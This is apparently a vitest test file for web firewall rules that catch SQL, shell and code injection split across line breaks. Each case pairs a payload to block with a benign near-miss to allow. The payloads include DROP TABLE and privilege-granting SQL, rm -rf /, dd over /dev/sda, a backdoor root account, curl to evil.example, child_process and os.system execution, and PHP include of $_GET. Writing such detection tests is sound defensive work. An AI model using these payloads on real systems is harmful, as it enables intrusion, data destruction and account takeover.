/**
 * Bundled rules of rev 2026-12-08d (session 22, issue 14): commands, SQL and code split across lines. A shell,
 * a SQL batch and an evaluated script take a line break where `;` and spaces were expected, and rules that read a
 * separator and the command after it as one run of text did not read across `%0A`/`%0D%0A` in a form body (the
 * raw buffer keeps a form's escapes), nor after a bracket closing the value. New rules: 9000180 (a stacked
 * statement after a closing quote or bracket and `;` or a line break), 9000390 (account and privilege commands
 * after a separator), 9001393 (a line of process-starting code after a break-out). Changed: 9000115 rev 2,
 * 9000188 rev 2, 9000314 rev 4, 9000338 rev 2, 9000341 rev 2, 9000389 rev 2, 9000703/9000704 rev 2. Each fires on
 * its attack and stays quiet on the benign text closest to it: SQL scripts, shell snippets, programs and
 * pasted code on several lines. Rev 2026-12-08e: 9000180/9000181 rev 2 and 9000390 rev 2 (cases marked below). 9001394 (URI) / 9001395 (body), of rev 2026-12-08d: a PHP include or require of a
 * request superglobal as a value's whole statement (`p=include($_GET['page'])`); a question quoting the line is more.
 */
import { describe } from 'vitest';
import { BROWSER, form, header, json, q, multipart, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const CASES: RuleCase[] = [
  // 9000180: a stacked statement after a closing quote or bracket (or a number) and ; or a line break.
  [9000180, 'block', 'test);%0ADROP TABLE users in a form comment', form('comment=test%29%3B%0ADROP+TABLE+users%3B%0A'), form('sql=CREATE+TABLE+t+%28id+int%29%3B%0ADROP+TABLE+t%3B')],
  [9000181, 'block', "x'%0D%0AGRANT ALL PRIVILEGES in a query", q("q=x'%0D%0AGRANT%20ALL%20PRIVILEGES%20ON%20*.*%20TO%20public"), q('q=grant%20all%20privileges%20on%20a%20table%20in%20postgres')],
  [9000181, 'block', "Robert');%0ADROP TABLE Students as a search", q('search=Robert%27%29%3B%0ADROP+TABLE+Students%3B--'), header('Referer', 'https://wiki.example.org/w/index.php?search=Robert%27%29%3B+DROP+TABLE+Students%3B--&go=Go')],
  [9000180, 'block', "a JSON value: abc')\\nSHUTDOWN WITH NOWAIT", json('{"path":"abc\')\\nShUtdOWn WItH nowaIT;"}'), json('{"sql":"\\nDELETE FROM sessions WHERE expires_at < now();"}')],
  [9000180, 'block', 'a number, ; and ALTER USER ... PASSWORD in a multipart field', multipart('id', "9843;\nALTER USER postgres WITH PASSWORD 'x';\n#"), multipart('notes', 'Rotate the DB password:\nALTER USER app WITH PASSWORD on Friday')],
  [9000180, 'block', 'a name closed by a quote, then UPDATE ... SET on the next line', form("user=admin'%0AUPDATE+users+SET+role%3D'admin'"), form('sql=UPDATE+users+SET+role%3D%27admin%27+WHERE+id%3D1%3B')],
  [9000180, 'block', 'a name closed by a double quote, then DELETE FROM after CRLF', json('{"name":"x\\"\\r\\nDELETE FROM users"}'), json('{"body":"```\\nDELETE FROM sessions WHERE expires_at < now();\\n```"}')],
  // Rev 2026-12-08e: a T-SQL GO line, an encoded comment, an XML element's text, a role made superuser; prose steps after `1)` pass.
  [9000180, 'block', 'a number, then GO lines around DROP TABLE', json('{"text":"1\\nGO\\nDROP TABLE orders\\nGO"}'), json('{"text":"1)\\nDelete from your list the items you no longer need"}')],
  [9000180, 'block', "x');%0A/* c */ DROP TABLE in a form", form("text=x')%3B%0A%2F*+c+*%2F+DROP+TABLE+invoices%3B+--"), form('text=2)%0ADrop+table+reservations+before+5pm')],
  [9000180, 'block', "an XML element's text: zz';\\nCREATE LOGIN ... PASSWORD", { method: 'POST', url: '/api/comment', headers: [...BROWSER, ['Content-Type', 'application/xml']], body: "<c><t>zz';\nCREATE LOGIN evil WITH PASSWORD='P@ss1'--</t></c>" }, form('text=1)%0AGrant+all+permissions+to+the+app+in+settings')],
  [9000181, 'block', 'a number, ; and ALTER ROLE ... SUPERUSER in a query', q('q=12%3B%0AALTER%20ROLE%20app_user%20SUPERUSER'), q('q=alter%20role%20superuser%20docs')],
  // 9000390: account and privilege commands after a separator.
  [9000390, 'block', 'x;%0Asudo -l in a form comment', form('comment=x%3B%0Asudo+-l%3B%0A'), form('comment=Setup%3A%0Asudo+-l+lists+what+you+may+run')],
  [9000390, 'block', 'ok&&%0D%0Anet user ... /add in a query', q('q=ok%26%26%0d%0anet%20user%20svc%20Passw0rd!%20/add'), q('q=net%20user%20command%20add%20syntax')],
  [9000390, 'block', 'test;\\nsudo su - in a multipart field', multipart('text', 'test;\nsudo su -'), multipart('text', 'Steps:\nsudo su - then run the installer')],
  [9000390, 'block', 'a JSON value: x);\\nuseradd -o -u 0 backdoor', json('{"host":"x);\\nuseradd -o -u 0 backdoor"}'), json('{"script":"apt-get update\\nuseradd -m deploy"}')],
  // 9001393: a line of process-starting code after a break-out.
  [9001393, 'block', "']; then const cp = require(\"child_process\") on the next line", form("search='%5D;%0aconst%20cp%20%3D%20require(%22child_process%22);%0acp.execSync(%22ps%20aux%22);"), form('code=const+cp+%3D+require(%22child_process%22)%3B%0Acp.execSync(%22ls%22)%3B')],
  [9001393, 'block', "name'); then import subprocess", form("name=name')%3B%0D%0Aimport%20subprocess%0D%0Asubprocess.check_output('id'%2C%20shell%3DTrue)"), form('code=%22%22%22Utility.%22%22%22%0Aimport+subprocess%0A')],
  [9001393, 'block', 'a multipart field: a)\\nconst cp = require(...)', multipart('q', 'a)\nconst cp = require("child_process");\ncp.execSync("sleep 4");'), multipart('snippet', "}\n\nconst cp = require('child_process');\ncp.execSync('git status');")],
  [9001393, 'block', "x']; then $f = strrev('metsys') on the next line", form("search=x'%5D%3B%0D%0A%09%24f+%3D+strrev('metsys')%3B%0D%0A%24f('id')%3B"), json('{"code":"\\"use strict\\";\\nconst cp = require(\'child_process\');"}')],
  // Changed rules: a line break after the separator, a bracket before it, a multipart value's start.
  [9000341, 'block', 'a;%0Akill -9 -1 in a form comment', form('comment=a%3B%0Akill+-9+-1%3B%0A'), form('comment=a%3B%0Akill+the+process+with+-9')],
  [9000341, 'block', 'u);%0D%0Add if=/dev/zero of=/dev/sda', form('ip=u);%0D%0Add%20if%3D/dev/zero%20of%3D/dev/sda;'), form('ip=u);%0D%0Add%20is%20a%20disk%20tool')],
  [9000341, 'block', 'ok;\\nhalt as a multipart field', multipart('ip', 'ok;\nhalt'), multipart('ip', 'ok;\nhalting problem')],
  [9000389, 'block', 'x);%0Arm -rf /', form('f=x)%3B%0Arm+-rf+%2F'), form('f=x)%3B%0Arm+-rf+build')],
  [9000314, 'block', 'x;%0D%0Acurl a URL', form('host=x%3B%0D%0Acurl+http%3A%2F%2Fevil.example%2Fs.sh'), form('host=x%3B%0D%0Acurl+is+installed')],
  [9000338, 'block', ';%0Acrontab -r at a value start', form('v=%3B%0Acrontab+-r'), form('v=%3B%0Acrontab+syntax')],
  [9000188, 'block', 'date)%0ADROP TABLE without ;', form('sort=date)%0ADROP+TABLE+users'), form('sort=date)%0Adrop+the+table+view')],
  [9000115, 'block', "x');%0D%0ADROP TABLE", form("name=x')%3B%0D%0ADROP+TABLE+users"), form('name=x%3B%0D%0Adrop+table+later')],
  [9000704, 'block', 'an ERB tag whose backticks start on the next line', form('filter=Hello+%3C%25%3D%0A%60env%60%0A%25%3E'), form('filter=Hello+%3C%25%3D%0Auser.name%0A%25%3E')],
  // Rev 2026-12-08f: 9001393 rev 2 reads the body only, 9001396 the URI; a Referer quoting a code search passes.
  [9001396, 'block', "x'); then import os in a query", q("q=x')%3B%0Aimport%20os%0Aos.system('id')"), header('Referer', "https://code.example.org/search?q=x')%3B%0Aimport%20os%0Aos.system('id')")],
  [9001393, 'block', "x'); then import os in a form (rev 2: the body only)", form("text=x')%3B%0Aimport%20os%0Aos.system('id')"), header('Referer', "https://code.example.org/search?q=x')%3B%0Aimport%20os%0Aos.system('id')")],
  // 9001394 / 9001395 (part of the same revision): a PHP include of a request superglobal as a value's whole statement.
  [9001393, 'block', 'a JSON value closing a quote, then var x = require(...)', json('{"q":"x\\");\\nvar cp = require(\'child_process\');"}'), json('{"body":"```\\nvar stringify = require(\'fast-json-stable-stringify\');\\nconsole.log(stringify({}));\\n```"}')],
  [9001394, 'block', "p=include($_GET['page']) in a query", q("p=include(%24_GET%5B'page'%5D)"), q("q=why+is+include(%24_GET%5B'page'%5D)+dangerous")],
  [9001394, 'block', 'require_once($_REQUEST[x]); percent-encoded in a query', q('file=require_once%28%24_REQUEST%5Bx%5D%29%3B'), q('file=require_once%28__DIR__+.+%27%2Fconfig.php%27%29%3B')],
  [9001395, 'block', "code=include($_GET['page']); in a form", form("code=include(%24_GET%5B'page'%5D)%3B"), json('{"body":"`<?php include($_GET[\'page\'] . \'.php\'); ?>` - my teacher says never do this, why?"}')],
  [9001395, 'block', 'a JSON value that is the statement', json('{"tpl":"include($_POST[\\"f\\"]);"}'), json('{"tpl":"include(\\"header.php\\");"}')],
];

describe('bundled rules of rev 2026-12-08d (commands, SQL and code split across lines)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
